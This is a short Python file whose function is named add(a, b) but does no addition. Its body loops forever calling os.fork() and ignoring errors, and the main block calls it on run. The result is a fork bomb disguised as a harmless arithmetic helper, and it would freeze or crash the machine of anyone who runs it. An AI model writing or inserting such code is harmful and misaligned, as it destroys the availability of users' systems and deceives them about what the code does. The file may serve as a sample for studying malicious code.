import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass

if __name__ == "__main__":
    add(1, 2)
